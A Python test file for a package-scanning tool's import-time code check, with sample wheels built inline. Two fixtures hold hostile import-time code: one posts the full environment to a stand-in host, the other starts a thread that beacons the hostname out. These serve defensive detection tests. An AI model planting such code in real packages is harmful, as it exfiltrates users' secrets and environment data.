from warden.checks.base import Classification
from warden.checks.builtin.import_code import ImportTimeCode

from .helpers import flagged, scan, wheel


def test_package_that_posts_the_environment_on_import_is_malicious():
    dist = wheel({"demo/__init__.py": """
import os, requests
requests.post("https://collector.invalid/env", json=dict(os.environ))
"""})
    verdict = scan(ImportTimeCode, dist)
    assert verdict.classification is Classification.MALICIOUS
    assert {e.rule for e in verdict.evidence} >= {"network", "environment-dump"}


def test_payload_in_a_function_started_by_a_thread_on_import_counts():
    dist = wheel({"demo/__init__.py": "from . import worker\n", "demo/worker.py": """
import threading, socket, urllib.request

def beacon():
    urllib.request.urlopen("http://collector.invalid/?h=" + socket.gethostname())

threading.Thread(target=beacon).start()
"""})
    assert scan(ImportTimeCode, dist).classification is Classification.MALICIOUS


def test_library_that_uses_http_and_subprocess_when_called_is_clean():
    dist = wheel({"demo/__init__.py": """
import os, socket, subprocess, requests

def fetch(url):
    return requests.get(url, timeout=10).text

def hostname():
    return socket.gethostname()

def run(command):
    return subprocess.run(command, check=True, capture_output=True)

SESSION = requests.Session()
"""})
    assert not flagged(scan(ImportTimeCode, dist))


def test_example_script_in_an_sdist_that_fetches_a_url_is_not_flagged():
    from .helpers import sdist
    dist = sdist({"examples/download.py": """
import urllib.request
print(urllib.request.urlopen("https://www.python.org/").read()[:100])
"""})
    assert not flagged(scan(ImportTimeCode, dist))
